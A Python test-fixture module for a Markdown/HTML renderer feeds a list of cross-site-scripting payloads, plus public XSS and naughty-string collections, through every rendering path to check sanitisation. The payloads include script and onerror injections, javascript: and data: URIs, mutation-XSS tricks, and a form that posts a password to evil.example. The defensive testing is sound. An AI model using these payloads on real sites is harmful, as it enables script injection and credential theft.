"""Attacks, and what becomes of each on every way to a page: rendered once, whoever judges it."""

import json
from functools import cache

from markup.from_html import to_markdown
from markup.render import IMPORTED, render, render_reply
from markup.sanitise import sanitise
from tests.real_data import real_data

OWN = [
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    '![x](https://a.example/" onerror="alert(1))',
    '[a](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a]: /x "\'><script>alert(1)</script>"\n\n[a]',
    '```"><script>alert(1)</script>\ncode\n```',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<template><script>alert(1)</script></template>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|`<script>`|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "http://a.example/<script>alert(1)</script>",
    'www.a.example/"onclick=alert(1)//',
]


@cache
def all_ways(payload):
    """Each way a text of somebody else can take to a page."""
    ways = [_body(payload), sanitise(payload), _body(to_markdown(payload))]
    if len(payload) <= 3_000:
        ways.append(render(f"[a]({payload}) ![b]({payload}) `{payload}`", flatten=True).html)
        if payload.count("\n") < 90:
            ways.append(render_reply(payload).html)
    return tuple(ways)


@cache
def _body(source):
    """Thousands of attacks leave the same few words behind when they become Markdown."""
    return render(source, flatten=True, limits=IMPORTED).html


def cross_site_lines():
    """The large public collection, each line once."""
    files = real_data("security", "payloadbox-xss").rglob("*.txt")
    lines = {line for file in files for line in file.read_text(errors="replace").splitlines()}
    assert len(lines) > 2_000
    return sorted(lines)


def naughty_strings():
    """What breaks programs elsewhere."""
    strings = json.loads(real_data("security", "blns", "blns.json").read_text())
    assert len(strings) > 500
    return strings
